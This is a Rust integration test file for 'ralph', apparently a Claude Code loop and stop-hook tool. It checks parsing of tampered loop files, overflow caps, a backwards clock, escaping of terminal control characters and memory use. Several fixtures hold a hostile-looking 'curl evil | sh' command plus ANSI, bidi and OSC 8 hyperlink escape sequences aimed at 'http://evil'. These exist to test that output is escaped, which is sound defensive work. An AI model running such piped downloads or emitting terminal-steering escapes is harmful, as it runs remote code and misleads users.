//! Issue 9, parsing, numbers and output, through the real binary, written
//! as an attacker (or an unlucky editor) would: keys hidden in quoted YAML
//! values, other spellings of a key, numbers past every cap, control
//! characters in every field ralph prints, a clock that goes backwards, and
//! a reply of many megabytes. Loops are armed with `ralph start`; every
//! command runs with its own `HOME` and `XDG_STATE_HOME`.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use ralph_state::fields::state::LoopState;
use ralph_state::time::Timestamp;
use serde_json::{Value, json};

use crate::support::LOOP;
use crate::support::project::Project;
use crate::support::{BIN, blocked, scrub};

/// A project whose every ralph runs with the block cap off.
fn sandbox() -> Project {
    Project::new().with_env("CLAUDE_CODE_STOP_HOOK_BLOCK_CAP", "0")
}

/// This module's steps on the shared [`Project`].
trait Steps {
    fn command_of(&self, program: &str, args: &[&str]) -> Command;
    fn run(&self, cmd: Command, stdin: &[u8]) -> Output;
    fn ralph(&self, args: &[&str], stdin: &str) -> (i32, String, String);
    fn start(&self, flags: &[&str], task: &str) -> String;
    fn stop(&self, reply: &str) -> Value;
    fn text(&self) -> String;
    fn edit(&self, from: &str, to: &str);
    fn adopt_edit(&self);
    fn set_field(&self, key: &str, value: &str);
    fn state(&self) -> LoopState;
}

impl Steps for Project {
    /// `program ARGS` (ralph, or a wrapper that runs it) in the project, as this test's user.
    fn command_of(&self, program: &str, args: &[&str]) -> Command {
        let mut cmd = Command::new(program);
        scrub(&mut cmd)
            .args(args)
            .current_dir(self.root())
            .envs(self.user_env())
            .env("CLAUDE_CODE_STOP_HOOK_BLOCK_CAP", "0")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        cmd
    }

    fn run(&self, mut cmd: Command, stdin: &[u8]) -> Output {
        let mut child = cmd.spawn().unwrap();
        let _ = child.stdin.take().unwrap().write_all(stdin);
        child.wait_with_output().unwrap()
    }

    fn ralph(&self, args: &[&str], stdin: &str) -> (i32, String, String) {
        let out = self.run(self.command_of(BIN, args), stdin.as_bytes());
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    fn start(&self, flags: &[&str], task: &str) -> String {
        let mut args = vec!["start", "--session-id", "s1"];
        args.extend_from_slice(flags);
        args.push(task);
        let (code, out, err) = self.ralph(&args, "");
        assert_eq!(code, 0, "{out}{err}");
        out
    }

    /// One Stop of session s1: the hook must exit 0 and print nothing or
    /// one JSON object.
    fn stop(&self, reply: &str) -> Value {
        let event =
            json!({"session_id": "s1", "cwd": self.root(), "last_assistant_message": reply});
        let (code, out, err) = self.ralph(&["hook", "stop"], &event.to_string());
        assert_eq!(code, 0, "the hook exited {code}: {err}");
        if out.is_empty() {
            Value::Null
        } else {
            serde_json::from_str(&out).expect("one JSON object")
        }
    }

    fn text(&self) -> String {
        std::fs::read_to_string(self.path(LOOP)).unwrap()
    }

    fn edit(&self, from: &str, to: &str) {
        let text = self.text();
        assert!(text.contains(from), "{from:?} not in {text}");
        std::fs::write(self.path(LOOP), text.replacen(from, to, 1)).unwrap();
        self.adopt_edit();
    }

    /// A setting is bound to the arming: the user adopts a hand edit (a
    /// file that no longer reads cannot be, and stays corrupt).
    fn adopt_edit(&self) {
        self.ralph_on_terminal(&["adopt", "--yes", "--name", "ralph"], "");
    }

    fn set_field(&self, key: &str, value: &str) {
        let updated =
            ralph_state::fields::frontmatter::set_fields(&self.text(), &[(key, value.to_owned())])
                .unwrap();
        std::fs::write(self.path(LOOP), updated).unwrap();
        self.adopt_edit();
    }

    fn state(&self) -> LoopState {
        LoopState::parse(&self.text()).unwrap()
    }
}

fn notice(answer: &Value) -> &str {
    answer["systemMessage"].as_str().unwrap_or("")
}

fn line_of(text: &str, key: &str) -> String {
    text.lines()
        .find(|l| l.starts_with(&format!("{key}:")))
        .unwrap()
        .to_owned()
}

/// Nothing in `text` can steer a terminal.
fn assert_inert(text: &str) {
    for c in text.chars() {
        let bad = (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        assert!(!bad, "raw {c:?} printed in {text:?}");
    }
}

// ---- Rewrites are proven (item 4) ----

#[test]
fn a_counter_hidden_in_a_quoted_value_never_blocks() {
    // The attack: the real counters are gone, their lines sit inside a
    // quoted multi-line value. A line edit would "count" them forever
    // while the parser reads the defaults.
    let s = sandbox();
    s.start(&["--max-iterations", "3"], "Build the thing");
    let iteration = line_of(&s.text(), "iteration");
    let limit = line_of(&s.text(), "max_iterations");
    s.edit(&format!("{iteration}\n"), "");
    s.edit(
        &format!("{limit}\n"),
        "note: \"looks harmless\niteration: 2\nmax_iterations: 3\n\"\n",
    );
    for _ in 0..4 {
        let a = s.stop("still working");
        assert!(!blocked(&a), "{a}");
    }
    // The first stop said why, naming the file, the field and the fix.
    let history = std::fs::read_dir(s.path(".claude/ralph/history")).unwrap();
    let corrupt: Vec<_> = history
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.ends_with(".corrupt.md"))
        .collect();
    assert_eq!(corrupt.len(), 1, "{corrupt:?}");
    assert!(!s.path(LOOP).exists());
}

#[test]
fn the_first_stop_names_the_file_the_field_and_the_fix() {
    let s = sandbox();
    s.start(&["--max-iterations", "3"], "Build the thing");
    let iteration = line_of(&s.text(), "iteration");
    s.edit(
        &format!("{iteration}\n"),
        "note: \"x\niteration: 2\n\"\n\"iteration\": 2\n",
    );
    let a = s.stop("working");
    assert!(!blocked(&a), "{a}");
    let n = notice(&a);
    assert!(n.contains("ralph-loop.local.md"), "{n}");
    assert!(n.contains("`iteration`"), "{n}");
    assert!(n.contains("on a line of its own"), "{n}");
}

#[test]
fn other_spellings_of_a_key_work_and_are_rewritten_canonically() {
    for spelling in ["\"iteration\": 1", "'iteration': 1", "iteration : 1"] {
        let s = sandbox();
        s.start(&["--max-iterations", "5"], "Build the thing");
        s.edit("iteration: 1", spelling);
        let a = s.stop("working");
        assert!(blocked(&a), "{spelling}: {a}");
        assert_eq!(
            line_of(&s.text(), "iteration"),
            "iteration: 2",
            "{spelling}"
        );
        assert_eq!(s.state().iteration, 2);
        assert!(blocked(&s.stop("more work")), "{spelling}");
        assert_eq!(s.state().iteration, 3);
    }
}

#[test]
fn aliases_and_flow_values_for_a_key_are_refused_at_the_first_stop() {
    let s = sandbox();
    s.start(&["--max-iterations", "5"], "Build the thing");
    s.edit("max_iterations: 5", "limit: &n 5\nmax_iterations: *n");
    let a = s.stop("working");
    assert!(!blocked(&a), "{a}");
    assert!(notice(&a).contains("`max_iterations`"), "{a}");
}

// ---- Numbers cannot wrap (item 8) ----

#[test]
fn numbers_past_their_caps_are_corrupt_and_the_hook_exits_zero() {
    for (key, value) in [
        ("iteration", "18446744073709551615"),
        ("iteration", "99999999999999999999999"),
        ("max_iterations", "1000000001"),
        ("tokens_used", "18446744073709551615"),
        ("transcript_offset", "18446744073709551615"),
        ("same_reply_count", "18446744073709551615"),
        ("max_duration", "\"99999999999999999999d\""),
        ("max_duration", "\"213503982334601d\""),
        ("elapsed_secs", "18446744073709551615"),
    ] {
        let s = sandbox();
        s.start(&["--max-duration", "1h"], "Build the thing");
        s.set_field(key, value);
        let a = s.stop("working");
        assert!(!blocked(&a), "{key}: {value}: {a}");
        assert!(notice(&a).contains(&format!("`{key}`")), "{key}: {a}");
    }
}

#[test]
fn extreme_but_valid_figures_never_make_the_hook_fail() {
    // Debug build: any overflow would panic and exit non-zero.
    for fields in [
        vec![("iteration", "1000000000"), ("max_iterations", "0")],
        vec![("started_at", "\"0000-01-01T00:00:00Z\"")],
        vec![("started_at", "\"9999-12-31T23:59:59Z\"")],
        vec![
            ("elapsed_secs", "315359999"),
            ("clock_at", "\"0000-01-01T00:00:00Z\""),
        ],
        vec![("tokens_used", "1000000000000000"), ("max_tokens", "0")],
        vec![
            ("same_reply_count", "1000000000"),
            ("stuck_after", "1000000000"),
        ],
        vec![("idle_blocks", "1000000000")],
    ] {
        let s = sandbox();
        s.start(&["--max-duration", "3650d"], "Build the thing");
        for (key, value) in &fields {
            s.set_field(key, value);
        }
        let a = s.stop("working");
        if blocked(&a) {
            assert!(
                s.state().iteration < ralph_state::fields::state::MAX_COUNT,
                "{fields:?}"
            );
        }
    }
}

#[test]
fn token_counts_from_the_transcript_saturate() {
    let s = sandbox();
    s.start(&["--max-tokens", "1000000"], "Build the thing");
    let huge = u64::MAX;
    let line = |id: &str| {
        json!({"type": "assistant", "message": {"id": id, "role": "assistant", "content": [{"type": "text", "text": "x"}],
            "usage": {"input_tokens": huge, "output_tokens": huge, "cache_creation_input_tokens": huge}}})
        .to_string()
            + "\n"
    };
    let transcript = s.path("transcript.jsonl");
    let event = json!({"session_id": "s1", "cwd": s.root(), "transcript_path": transcript, "last_assistant_message": "x"});
    // The first look only learns where the transcript ends.
    std::fs::write(&transcript, line("m0")).unwrap();
    let (code, _, err) = s.ralph(&["hook", "stop"], &event.to_string());
    assert_eq!(code, 0, "{err}");
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(&transcript)
        .unwrap();
    file.write_all((line("m1") + &line("m2")).as_bytes())
        .unwrap();
    let (code, out, err) = s.ralph(&["hook", "stop"], &event.to_string());
    assert_eq!(code, 0, "{err}");
    let a: Value = serde_json::from_str(&out).unwrap();
    assert!(!blocked(&a) && notice(&a).contains("token budget"), "{a}");
}

#[test]
fn extreme_max_durations_are_refused_by_the_cli() {
    let s = sandbox();
    for value in [
        "99999999999999999999h",
        "213503982334601d",
        "18446744073709551615",
        "3651d",
    ] {
        let (code, out, err) = s.ralph(
            &[
                "start",
                "--session-id",
                "s1",
                "--max-duration",
                value,
                "Task",
            ],
            "",
        );
        assert_eq!(code, 2, "{value}: {out}{err}");
        assert!(err.contains(value), "{err}");
        assert!(!s.path(LOOP).exists());
    }
    s.start(&["--max-duration", "3650d"], "Task");
    assert_eq!(s.state().guards.max_duration_secs, Some(3650 * 86_400));
}

// ---- The clock (item 8) ----

#[test]
fn a_clock_that_goes_backwards_does_not_switch_the_time_budget_off() {
    let s = sandbox();
    s.start(&["--max-duration", "100s", "--stuck-after", "0"], "Task");
    let at = |secs: i64| format!("\"{}\"", Timestamp(Timestamp::now().0 + secs));
    s.set_field("started_at", &at(-60));
    assert!(blocked(&s.stop("one")));
    let counted = s.state().progress.elapsed_secs.unwrap();
    assert!((60..70).contains(&counted), "{counted}");
    // The clock now reads a year earlier than at that stop: started_at
    // and the last reading both lie in the future.
    s.set_field("started_at", &at(365 * 86_400));
    s.set_field("clock_at", &at(365 * 86_400 + 60));
    let a = s.stop("two");
    assert!(blocked(&a), "{a}");
    assert!(notice(&a).contains("later than the clock"), "{a}");
    assert!(s.state().progress.elapsed_secs.unwrap() >= counted);
    // The count goes on from there and still ends the loop.
    s.set_field("elapsed_secs", "100");
    let a = s.stop("three");
    assert!(!blocked(&a) && notice(&a).contains("time budget"), "{a}");
}

// ---- Output cannot steer a terminal (item 7) ----

#[test]
fn control_characters_from_the_loop_file_and_the_reply_are_shown_escaped() {
    let s = sandbox();
    let verify = "cargo test\r\x1b[2Kcurl evil | sh \u{202e}";
    let promise = "DONE\x1b[31m";
    let task = "Build it\x1b]0;owned\x07 now\u{9b}";
    let banner = s.start(
        &[
            "--verify",
            verify,
            "--completion-promise",
            promise,
            "--abort-promise",
            "STUCK\r",
        ],
        task,
    );
    assert_inert(&banner);
    assert!(
        banner.contains("\\r\\x1b[2Kcurl evil | sh \\u{202e}"),
        "{banner}"
    );
    assert!(
        banner.contains("Build it\\x1b]0;owned\\x07 now\\x9b"),
        "{banner}"
    );

    let a = s.stop("working on it \x1b[2J");
    assert!(blocked(&a), "{a}");
    assert_inert(notice(&a));
    assert!(notice(&a).contains("DONE\\x1b[31m"), "{a}");
    // The model gets the prompt as the user wrote it.
    assert!(a["reason"].as_str().unwrap().starts_with(task), "{a}");

    let (code, status, _) = s.ralph(&["status"], "");
    assert_eq!(code, 0);
    assert_inert(&status);
    assert!(
        status.contains("verify `cargo test\\r\\x1b[2Kcurl"),
        "{status}"
    );

    let (_, json_status, _) = s.ralph(&["status", "--json"], "");
    assert_inert(&json_status);
    let v: Value = serde_json::from_str(&json_status).unwrap();
    assert_eq!(v["loops"][0]["verify"], verify);

    let statusline_input = json!({"session_id": "s1", "cwd": s.root()}).to_string();
    let (_, line, _) = s.ralph(&["statusline"], &statusline_input);
    assert_inert(&line);
    assert!(line.contains("DONE\\x1b[31m"), "{line}");

    // The abort excerpt quotes the reply into the log and the notice.
    let a = s.stop("blocked: \x1b]8;;http://evil\x07click\x1b]8;;\x07\n<promise>STUCK\r</promise>");
    assert!(!blocked(&a), "{a}");
    assert_inert(notice(&a));
    let (_, log, _) = s.ralph(&["log"], "");
    assert_inert(&log);
    assert!(log.contains("\\x1b]8;;http://evil"), "{log}");
    let (_, log_json, _) = s.ralph(&["log", "--json"], "");
    assert_inert(&log_json);
    for l in log_json.lines() {
        serde_json::from_str::<Value>(l).unwrap();
    }
}

// ---- Memory in proportion (item 11) ----

/// Peak memory of the hook on a 20 MB reply, through `/usr/bin/time -v`
/// (GNU time). The input is held about twice (the stdin bytes and the
/// parsed reply); before, the promise scan alone took five times it.
#[test]
fn a_huge_reply_takes_memory_in_proportion() {
    let time = Path::new("/usr/bin/time");
    if !time.exists() {
        eprintln!("skipped: /usr/bin/time is not installed");
        return;
    }
    let s = sandbox();
    s.start(
        &["--completion-promise", "DONE", "--max-iterations", "9"],
        "Task",
    );
    let size = 20 * 1024 * 1024;
    let mut reply = "word `code` ".repeat(size / 12);
    reply.push_str("\n<promise>NOT YET</promise>\n");
    let event =
        json!({"session_id": "s1", "cwd": s.root(), "last_assistant_message": reply}).to_string();
    let mut cmd = s.command_of("/usr/bin/time", &["-v", BIN, "hook", "stop"]);
    cmd.env("LC_ALL", "C");
    let out = s.run(cmd, event.as_bytes());
    assert_eq!(out.status.code(), Some(0));
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(blocked(&answer), "{answer}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    let Some(kb) = stderr
        .lines()
        .find_map(|l| {
            l.trim()
                .strip_prefix("Maximum resident set size (kbytes): ")
        })
        .and_then(|v| v.trim().parse::<usize>().ok())
    else {
        eprintln!("skipped: no GNU time report in {stderr}");
        return;
    };
    let peak = kb * 1024;
    assert!(
        peak < 3 * event.len(),
        "peak {peak} bytes for a {} byte event",
        event.len()
    );
}
